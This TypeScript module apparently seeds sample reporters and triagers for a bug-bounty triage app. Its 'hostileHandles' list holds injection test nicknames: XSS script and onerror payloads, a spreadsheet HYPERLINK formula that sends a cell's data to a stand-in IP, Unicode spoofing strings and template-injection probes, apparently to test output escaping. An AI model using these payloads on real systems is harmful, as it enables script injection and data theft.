import { randomFrom } from './random.ts'
import type { SamplePerson } from './world.ts'

/** Tongues that reports are written in besides English, and the plain "english" of most. */
const tongues = ['english', 'spanish', 'german', 'portuguese', 'japanese', 'chinese', 'arabic'] as const
export type Tongue = (typeof tongues)[number]

const triagerNames = [
  'Mara Kowalski',
  'Jonas Petersen',
  'Adaeze Obi',
  'Liam Gallagher-Ruiz',
  'Priya Raghunathan',
  'Tomoko Arai',
  'Sébastien Laurent',
  'Noa Ben-David',
  'Dimitra Papadaki',
  'Erik Sandvik',
  'Camila Duarte',
  'Wei-Ling Chao',
]

/** Handles as they stand on leader boards, by the tongue their owner would rather write. */
const handles: Readonly<Record<Tongue, string>> = {
  english: `zx0r nullbyte_ned kavya_k 0xFerret thesunwalker brackish h4rvey quietpacket mooncurl tinfoil_tina
    sudo_sandwich pixelpirate nhat_minh segfault_sally rawbytes off_by_uno okonjo_sec d0ublefree grumpy_gopher
    heapfeng swatiray patchtuesday lint_roller olamide_x yakshaver echo_nine samwisehacks ghost_in_shell_sh
    cr0wbar tamarind anh_tu saltlake_sec raj4n hexmarrow bitter_lemon gwen_404 nopsled farhan_bd umbra_fox
    payload_pete kofi_m akshay_infosec not_a_robot iron_otter redacted_rae chmod777 b1narybard marigold
    wildcard_will ashgrove dropbear zeroday_zoe tuxedo_cat ibrahim_sec leftpad_lou quill vamshi_r phoebe_xss
    sharp_elbow moth_ lowkey_leo nadia_h coffee_overflow jitter_bug stackcanary thanh_sec bughunter_4421
    security_researcher_99 ethical_hacker_pro whitehat_mike anon_reporter_17 prabhu_sec cyber_ninja_2006
    0day_dreamer the_real_dave isitfixedyet hopper_g mule_kick lagoon_sec k1ngfisher`,
  spanish: `lobo_gris mariposa_sec el_chapulin0x nieves_r torres_bits caracol_root guaraná_js pepe_payload
    valeria_dfir hacktor_m sombra_azul r4yuela`,
  german: `Waldkauz fuchsbau_sec nordwind0x pfeffer_minze lotta_lauscht Bitschubser kellerkind42 Querkopf_
    anker_und_hash moin_moin`,
  portuguese: `tucano_sec pao_de_root beija_flor joaninha_x capivara_h4ck dendê_dump vento_sul marreco0x
    ana_bela_sec gato_preto`,
  japanese: `yuki_usagi tanuki_0x matcha_overflow 夜更かし kurage_sec 猫パンチ sora_no_bug ramen_root hoshizora
    mikan_dev`,
  chinese: `白帽小刘 lingxiao_sec 青衫 panda_pwn xiaoyu0x 山海 wuming_ gaoshan_liushui dumpling_dev 听雨`,
  arabic: `saqr_sec نورس layla0x abu_jareer qamar_h barq_x صقر_الليل`,
}

/** Some people sign up to see what breaks; their nicknames travel through lists, toasts and exports. */
const hostileHandles = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(document.domain)>',
  '=HYPERLINK("http://203.0.113.9/?x="&A1,"open")',
  'admin\u202Enimda',
  'mara\u200B_kowalski',
  'z\u0337\u0322\u031B\u033C\u0300a\u0336\u0318\u0349\u0301l\u0335\u0316\u0346g\u0334\u033A\u0308o\u0337\u032F\u0312',
  `{{7*7}}\${7*7}`,
]

const mailHosts = ['inbox.example', 'post.example', 'mailbox.example', 'hunters.example', 'alias.example']

/** The triage team, the same in every world; the first of them does most of the work. */
function triagers(): SamplePerson[] {
  return triagerNames.map((nickname) => ({
    side: 'triager',
    id: uuidFrom('triager', nickname),
    nickname,
    email: `${mailName(nickname)}@desk.example`,
  }))
}

/** About 150 reporters in an order decided by the seed. */
export function peopleOf(seed: number): SamplePerson[] {
  const random = randomFrom(seed, 'people')
  const nicknames = [...Object.values(handles).flatMap((list) => list.split(/\s+/)), ...hostileHandles]
  const reporters = random.sample(nicknames, nicknames.length).map(
    (nickname): SamplePerson => ({
      side: 'reporter',
      id: uuidFrom(seed, nickname),
      nickname,
      email: `${mailName(nickname) || `user${random.int(1000, 9999)}`}@${random.pick(mailHosts)}`,
    }),
  )
  return [...triagers(), ...reporters]
}

const tongueByHandle = new Map(
  tongues.flatMap((tongue) => handles[tongue].split(/\s+/).map((handle) => [handle, tongue] as const)),
)
const hostile = new Set(hostileHandles)
const beggars = /^(?:bughunter|security_researcher|ethical_hacker|whitehat|anon_reporter|cyber_ninja|prabhu)/

export const tongueOf = (person: SamplePerson): Tongue => tongueByHandle.get(person.nickname) ?? 'english'
/** Whose nickname is an attack by itself. */
export const hasHostileNickname = (person: SamplePerson): boolean => hostile.has(person.nickname)
/** Those who send scanner output to every programme there is. */
export const isBeggar = (person: SamplePerson): boolean => beggars.test(person.nickname)

/** A version 4 shaped UUID that only depends on the keys. */
export function uuidFrom(...keys: readonly (string | number)[]): string {
  const random = randomFrom('uuid', ...keys)
  return [
    random.hex(8),
    random.hex(4),
    `4${random.hex(3)}`,
    `${random.pick(['8', '9', 'a', 'b'])}${random.hex(3)}`,
    random.hex(12),
  ].join('-')
}

const mailName = (nickname: string): string =>
  nickname
    .normalize('NFD')
    .toLowerCase()
    .replace(/[^a-z0-9 _-]/g, '')
    .trim()
    .replace(/ +/g, '.')
    .replace(/^[_-]+|[_-]+$/g, '')
    .slice(0, 40)
